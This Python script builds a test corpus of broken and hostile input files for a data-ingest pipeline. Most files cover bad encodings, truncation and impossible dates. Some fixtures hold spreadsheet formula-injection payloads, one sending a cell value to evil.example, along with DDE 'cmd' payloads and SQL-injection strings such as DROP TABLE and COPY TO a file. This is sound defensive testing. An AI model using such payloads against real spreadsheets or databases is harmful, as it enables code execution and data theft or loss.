"""Writes the hostile-input corpus (issue 8): small files that each break ingest in one way.

Run `uv run python tests/data/hostile/build_corpus.py` to rewrite `inbox/` (deterministic
bytes). The big or dangerous cases (a 10 MB field, a 100,000-column header, an XLSX zip bomb,
symlinks, FIFOs, `../` and newline names) are made at test time in tmp by
tests/support/hostile_corpus.py, never committed. What each file must produce is in EXPECTED there.

Layout: inbox/<feed>/<case>.<ext>; `inbox/transaktions/` and `inbox/办件流水/` are unknown
feed folders on purpose; `inbox/stray.csv` is a loose file outside any feed folder.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
INBOX = HERE / "inbox"

TX = ["event_id", "case_id", "event_type", "event_time", "window_id", "item_code"]
EV = ["evaluation_id", "window_id", "rating", "evaluated_at", "comment"]
VF = ["flag_id", "window_id", "flagged_at", "flag_type", "review_status"]


def _csv(rows: list[list[str]]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def _tx_rows(prefix: str, n: int, day: str = "2025-03-03") -> list[list[str]]:
    return [[f"{prefix}{i}", f"C{prefix}{i}", "accept", f"{day} 09:{i:02d}:00", "W01", "I1"] for i in range(n)]


def put(rel: str, data: bytes | str) -> None:
    path = INBOX / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _xlsx(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return _deterministic_zip(buf.getvalue())


def _deterministic_zip(data: bytes) -> bytes:
    """openpyxl stamps the time into docProps and zip headers: rewrite with fixed dates."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in sorted(src.infolist(), key=lambda i: i.filename):
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                import re

                body = re.sub(rb"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z", b"2025-01-01T00:00:00Z", body)
            zi = zipfile.ZipInfo(info.filename, date_time=(2025, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(zi, body)
    return out.getvalue()


def _parquet(columns: dict[str, list]) -> bytes:
    import polars as pl

    buf = io.BytesIO()
    pl.DataFrame(columns).write_parquet(buf, statistics=False)
    return buf.getvalue()


def build() -> None:
    shutil.rmtree(INBOX, ignore_errors=True)
    # --- reference data and controls: these must land whatever else is in the inbox
    put("windows/windows.csv", _csv([["window_id", "window_name", "department_id", "window_kind"],
                                     ["W01", "综合一号", "D01", "综合"], ["W02", "专业二号", "D02", "specialized"]]))
    put("items/items.csv", _csv([["item_code", "item_name", "department_id", "item_kind", "promised_limit", "limit_unit"],
                                 ["I1", "营业执照", "D01", "承诺件", "5", "工作日"], ["I2", "即办事项", "D02", "immediate", "0", "workday"]]))
    put("transactions/control_good.csv", _csv([TX, *_tx_rows("G", 5)]))
    put("evaluations/control_good.csv", _csv([EV, ["GV1", "W01", "满意", "2025-03-03 10:00:00", "很好"],
                                             ["GV2", "W02", "非常不满意", "2025-03-03 11:00:00", "排队太久"]]))
    put("video_flags/control_good.jsonl", "".join(json.dumps(dict(zip(VF, r)), ensure_ascii=False) + "\n" for r in
                                                [["GF1", "W01", "2025-03-03 10:00:00", "玩手机", "已确认"]]))

    # --- truncation
    body = _csv([TX, *_tx_rows("TR", 4)])
    put("transactions/truncated_mid_row.csv", body[: body.rindex(",W01") + 2])  # last row cut inside window_id
    put("transactions/truncated_mid_time.csv", _csv([TX, *_tx_rows("TT", 3)]) + "TT9,CTT9,accept,2025-03-03 09:")
    put("transactions/truncated_in_quote.csv", _csv([TX, *_tx_rows("TQ", 3)]) + 'TQ9,CTQ9,accept,"2025-03-03 09:00')
    utf8 = _csv([TX, *_tx_rows("TU", 3), ["TU9", "CTU9", "受理", "2025-03-03 09:00:00", "W01", "I1"]]).encode("utf-8")
    put("transactions/truncated_utf8_multibyte.csv", utf8[: utf8.rindex("受".encode()) + 2])  # ends inside 受
    pq = _parquet({"event_id": ["P1", "P2"], "case_id": ["C1", "C2"], "event_type": ["accept"] * 2,
                   "event_time": ["2025-03-03 09:00:00"] * 2, "window_id": ["W01"] * 2, "item_code": ["I1"] * 2})
    put("transactions/truncated.parquet", pq[: len(pq) // 2])
    xl = _xlsx([TX, *_tx_rows("TX", 3)])
    put("transactions/truncated.xlsx", xl[: len(xl) // 2])
    jl = "".join(json.dumps(dict(zip(EV, r)), ensure_ascii=False) + "\n" for r in
                 [["TJ1", "W01", "满意", "2025-03-03 10:00:00", "好"], ["TJ2", "W01", "满意", "2025-03-03 10:05:00", "好"]])
    put("evaluations/truncated.jsonl", jl[:-12])
    put("transactions/empty.csv", b"")
    put("transactions/whitespace_only.csv", b"  \n\n \t\n")
    put("transactions/header_only.csv", _csv([TX]))

    # --- encodings
    put("transactions/gbk_valid.csv", _csv([TX, ["GB1", "CGB1", "受理", "2025-03-03 09:00:00", "W01", "I1"],
                                            ["GB2", "CGB2", "办结", "2025-03-03 10:00:00", "W01", "I1"]]).encode("gbk"))
    mixed = _csv([TX, ["MX1", "CMX1", "受理", "2025-03-03 09:00:00", "W01", "I1"]]).encode("utf-8")
    mixed += _csv([["MX2", "CMX2", "办结", "2025-03-03 10:00:00", "W01", "I1"]]).encode("gbk")
    put("transactions/mixed_utf8_gbk.csv", mixed)
    put("transactions/utf16le_bom.csv", b"\xff\xfe" + _csv([TX, *_tx_rows("U16", 2)]).encode("utf-16-le"))
    put("transactions/latin1.csv", _csv([TX, ["L1", "Cé", "accept", "2025-03-03 09:00:00", "W01", "I1"]]).encode("latin-1"))
    put("transactions/bom_mid_file.csv", "\ufeff" + _csv([TX, *_tx_rows("BM", 2)]) + "\ufeff" + _csv([TX, *_tx_rows("BN", 2)]))
    put("transactions/bom_before_value.csv", _csv([TX, *_tx_rows("BV", 1)]) + "\ufeffBV9,CBV9,accept,2025-03-03 09:30:00,W01,I1\n")
    put("evaluations/gb18030_4byte.csv", _csv([EV, ["G4", "W01", "满意", "2025-03-03 10:00:00", "𠀀𪚥 rare chars"]]).encode("gb18030"))

    # --- NUL bytes and binary
    put("transactions/nul_in_field.csv", _csv([TX, *_tx_rows("NU", 2)]) + "NU9\x00,CNU9,accept,2025-03-03 09:00:00,W01,I1\n")
    put("transactions/nul_only.csv", b"\x00" * 4096)
    put("transactions/binary_garbage.csv", bytes((i * 131 + 7) % 256 for i in range(4096)))
    put("transactions/pdf_renamed.xlsx", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n")
    put("transactions/csv_renamed.xlsx", _csv([TX, *_tx_rows("RX", 2)]))
    put("transactions/not_a_parquet.parquet", _csv([TX, *_tx_rows("NP", 2)]))
    put("transactions/unsupported.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    put("transactions/archive.zip", b"PK\x05\x06" + b"\x00" * 18)

    # --- structure: headers and row shapes
    put("transactions/duplicate_headers.csv", _csv([TX + ["event_id"], ["DH1", "CDH1", "accept", "2025-03-03 09:00:00", "W01", "I1", "DH1-other"]]))
    put("transactions/duplicate_alias_headers.csv", _csv([TX + ["环节时间"], ["DA1", "CDA1", "accept", "2025-03-03 09:00:00", "W01", "I1", "2025-03-04 09:00:00"]]))
    put("transactions/missing_required_column.csv", _csv([TX[:-1], *[r[:-1] for r in _tx_rows("MC", 2)]]))
    put("transactions/ragged_long_row.csv", _csv([TX, *_tx_rows("RL", 2)]) + "RL9,CRL9,accept,2025-03-03 09:00:00,W01,I1,extra,extra2\n")
    put("transactions/cr_only_newlines.csv", _csv([TX, *_tx_rows("CR", 2)]).replace("\n", "\r"))
    put("transactions/header_sql_quotes.csv", _csv([TX + ['x"); DROP TABLE s; --'], ["HQ1", "CHQ1", "accept", "2025-03-03 09:00:00", "W01", "I1", "boom"]]))
    put("evaluations/jsonl_not_objects.jsonl", '["a", "b"]\n[1, 2]\n')
    put("evaluations/jsonl_nested.jsonl", json.dumps({"evaluation_id": "JN1", "window_id": "W01", "rating": {"level": "满意"},
                                                      "evaluated_at": "2025-03-03 10:00:00"}, ensure_ascii=False) + "\n")
    put("transactions/typed_columns.parquet", _parquet({"event_id": [1, 2], "case_id": [10, 20], "event_type": ["accept", "complete"],
                                                        "event_time": ["2025-03-03 09:00:00", "2025-03-03 10:00:00"],
                                                        "window_id": ["W01", "W01"], "item_code": ["I1", "I1"]}))

    # --- formula injection (lands as text: free text is not ours to judge; exports neutralise)
    put("evaluations/formula_injection.csv", _csv([EV,
        ["FI1", "W01", "满意", "2025-03-03 10:00:00", '=HYPERLINK("http://evil.example/x?"&A1,"点击领取")'],
        ["FI2", "W01", "满意", "2025-03-03 10:01:00", "+cmd|' /C calc'!A0"],
        ["FI3", "W01", "满意", "2025-03-03 10:02:00", "-2+3+cmd|' /C notepad'!'A1'"],
        ["FI4", "W01", "满意", "2025-03-03 10:03:00", "@SUM(1+1)*cmd|' /C calc'!A0"],
        ["FI5", '=HYPERLINK("http://evil.example","W01")', "满意", "2025-03-03 10:04:00", "ok"]]))
    put("transactions/formula_injection.xlsx", _xlsx([TX, ["FX1", "=1+1", "accept", "2025-03-03 09:00:00", "W01", "I1"],
                                                     ["FX2", "CFX2", "accept", "2025-03-03 09:01:00", '=HYPERLINK("http://evil.example","W01")', "I1"]]))

    # --- SQL injection in values
    put("transactions/sql_injection_values.csv", _csv([TX,
        ["SQ1'; DROP TABLE s; --", "CSQ1", "accept", "2025-03-03 09:00:00", "W01", "I1"],
        ["SQ2", "CSQ2", "accept", "2025-03-03 09:01:00", "W01' OR '1'='1", "I1"],
        ["SQ3", 'C"); COPY (SELECT 1) TO \'/tmp/pwned.csv\'; --', "accept", "2025-03-03 09:02:00", "W01", "I1"]]))

    # --- times: far future, far past, impossible, clock skew
    put("transactions/far_future.csv", _csv([TX, ["FF1", "CFF1", "accept", "9999-12-31 23:59:59", "W01", "I1"],
                                             ["FF2", "CFF2", "accept", "2999-01-01 09:00:00", "W01", "I1"],
                                             ["FF3", "CFF3", "accept", "2025-03-03 09:00:00", "W01", "I1"]]))
    put("transactions/far_past.csv", _csv([TX, ["FP1", "CFP1", "accept", "1900-01-01 00:00:00", "W01", "I1"],
                                           ["FP2", "CFP2", "accept", "1970-01-01 08:00:00", "W01", "I1"],
                                           ["FP3", "CFP3", "accept", "0001-01-01 00:00:00", "W01", "I1"],
                                           ["FP4", "CFP4", "accept", "2025-03-03 09:00:00", "W01", "I1"]]))
    put("transactions/impossible_times.csv", _csv([TX, ["IT1", "CIT1", "accept", "2025-02-30 09:00:00", "W01", "I1"],
                                                   ["IT2", "CIT2", "accept", "2025-03-03 25:00:00", "W01", "I1"],
                                                   ["IT3", "CIT3", "accept", "10000-01-01 00:00:00", "W01", "I1"],
                                                   ["IT4", "CIT4", "accept", "2025-03-03T09:00:00+99:00", "W01", "I1"]]))
    put("transactions/clock_skewed_recorded_at.csv", _csv([TX + ["recorded_at"],
        ["SK1", "CSK1", "accept", "2025-03-03 09:00:00", "W01", "I1", "2025-03-03 09:00:05"],   # fine
        ["SK2", "CSK2", "accept", "2025-03-03 09:00:00", "W01", "I1", "2025-03-01 09:00:00"],   # recorded 2 days before it happened
        ["SK3", "CSK3", "accept", "2025-03-03 09:00:00", "W01", "I1", "2199-03-03 09:00:00"],   # recorded in the far future
        ["SK4", "CSK4", "accept", "2025-03-03 09:00:00", "W01", "I1", "2025-03-05 09:00:00"]]))  # a real backfill: lands
    put("evaluations/far_future_evaluated.csv", _csv([EV, ["FE1", "W01", "满意", "3025-03-03 10:00:00", "x"],
                                                      ["FE2", "W01", "满意", "2025-03-03 10:00:00", "x"]]))

    # --- ratings
    put("evaluations/numeric_rating_undeclared.csv", _csv([EV, ["NR1", "W01", "1", "2025-03-03 10:00:00", "a"],
                                                           ["NR2", "W01", "5", "2025-03-03 10:01:00", "b"],
                                                           ["NR3", "W01", "满意", "2025-03-03 10:02:00", "c"]]))
    put("evaluations/rating_out_of_range.csv", _csv([EV, ["RO1", "W01", "0", "2025-03-03 10:00:00", "a"],
                                                     ["RO2", "W01", "99999999999999999999", "2025-03-03 10:01:00", "b"],
                                                     ["RO3", "W01", "-1", "2025-03-03 10:02:00", "c"]]))

    # --- PII in places it should not be
    put("evaluations/pii_in_comment.csv", _csv([EV, ["PC1", "W01", "不满意", "2025-03-03 10:00:00", "我的身份证110101199003078515电话13812345678"],
                                                ["PC2", "W01", "不满意", "2025-03-03 10:01:00", "手机 +86 138-1234-5678 座机 010-62345678"]]))
    put("transactions/pii_in_bad_values.csv", _csv([TX + ["applicant_id", "applicant_phone", "applicant_name"],
        ["PB1", "CPB1", "110101199003078515", "2025-03-03 09:00:00", "W01", "I1", "110101199003078515", "13812345678", "张三"],
        ["PB2", "CPB2", "accept", "13812345678", "W01", "I1", "110101199003078515", "13812345678", "张三"],
        ["PB3", "CPB3", "accept", "2025-03-03 09:00:00", "13812345678", "I1", "110101199003078515", "13812345678", "张三"]]))
    put("transactions/pii_in_header.csv", _csv([TX + ["13812345678"], ["PH1", "CPH1", "accept", "2025-03-03 09:00:00", "W01", "I1", "x"]]))
    put("transactions/申请人_110101199003078515.csv", _csv([TX, *_tx_rows("PN", 1)]))

    # --- numbers
    put("transactions/bad_numbers.csv", _csv([TX + ["extend_days", "fee_amount"],
        ["BN1", "CBN1", "extend", "2025-03-03 09:00:00", "W01", "I1", "99999999999999999999999", "1"],
        ["BN2", "CBN2", "extend", "2025-03-03 09:00:00", "W01", "I1", "3", "NaN"],
        ["BN3", "CBN3", "extend", "2025-03-03 09:00:00", "W01", "I1", "3", "inf"],
        ["BN4", "CBN4", "extend", "2025-03-03 09:00:00", "W01", "I1", "3", "1e309"]]))

    # --- hall-operation feeds (v2): Chinese headers in GBK, formula and SQL injection, PII in free text and
    # in the window column, impossible dates, skewed clocks, nested JSON, numbers below the contract minimum
    put("work_orders/hostile_gbk.csv", _csv([["工单编号", "工单来源", "工单类型", "受理时间", "窗口编号", "是否查实", "工单内容"],
        ["HW1", "12345热线", "投诉", "2025-03-03 10:00:00", "W01", "是", '=HYPERLINK("http://evil.example","点击")'],
        ["HW2", "办不成事", "投诉", "2025-03-03 10:01:00", "W01", "否", "来电人身份证110101199003078515电话13812345678"],
        ["HW3'; DROP TABLE s; --", "信箱", "建议", "2025-03-03 10:02:00", "W01", "", "ok"],
        ["HW4", "12345", "投诉", "9999-12-31 23:59:59", "W01", "", "x"],
        ["HW5", "12345", "投诉", "2025-03-03 10:04:00", "13812345678", "", "x"],
        ["HW6", "12345", "投诉", "2025-03-03 10:05:00", "W01", "也许", "x"]]).encode("gbk"))
    put("inspections/hostile_numbers.csv", _csv([["inspection_id", "window_id", "inspected_at", "finding", "deduction"],
        ["HN1", "W01", "2025-03-03 11:00:00", "脱岗", "2"], ["HN2", "W01", "2025-03-03 11:01:00", "无问题", "0"],
        ["HN3", "W01", "2025-03-03 11:02:00", "脱岗", "-0.5"], ["HN4", "W01", "2025-03-03 11:03:00", "脱岗", "NaN"],
        ["HN5", "W01", "2025-03-03 11:04:00", "脱岗", "1e309"], ["HN6", "W01", "2025-03-03 11:05:00", "脱岗", "-inf"],
        ["HN7", "W01", "2025-03-03 11:06:00", "脱岗", "二分"]]))
    put("attendance/hostile.jsonl", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in [
        {"attendance_id": "HA1", "staff_id": "S1", "window_id": "W01", "work_date": "2025-03-03", "sign_in_at": "2025-03-03 08:30:00",
         "absence_type": "正常"},
        {"attendance_id": "HA2", "staff_id": "S1", "window_id": "W01", "work_date": "2025-02-30"},
        {"attendance_id": "HA3", "staff_id": "S1", "window_id": "W01", "work_date": "2025-03-03", "sign_in_at": "1970-01-01 08:00:00"},
        {"attendance_id": "HA4", "staff_id": "S1", "window_id": "W01", "work_date": "2025-03-03", "recorded_at": "2025-03-01 09:00:00"},
        {"attendance_id": "HA5", "staff_id": "S1", "window_id": "W01", "work_date": 20250303},
        {"attendance_id": "HA6", "staff_id": "S1", "window_id": "W01", "work_date": "2025-03-03", "absence_type": {"code": "absent"}}]))
    put("queue_tickets/hostile.xlsx", _xlsx([["排队号", "叫号窗口", "取号时间", "状态"], ["=1+1", "W01", "2025-03-03 09:00:00", "已办理"],
                                            ["HQ2", "W01", "2025-03-03 09:01:00", "过号"],
                                            ["HQ3", "W01", "2025-03-03 09:02:00", '=HYPERLINK("http://evil.example","已办理")']]))

    # --- places that are not feeds
    put("transaktions/typo_folder.csv", _csv([TX, *_tx_rows("UF", 2)]))
    put("办件流水/chinese_folder.csv", _csv([TX, *_tx_rows("UC", 2)]))
    put("stray.csv", _csv([TX, *_tx_rows("ST", 2)]))


if __name__ == "__main__":
    build()
    print(f"{sum(1 for p in INBOX.rglob('*') if p.is_file())} files in {INBOX}")
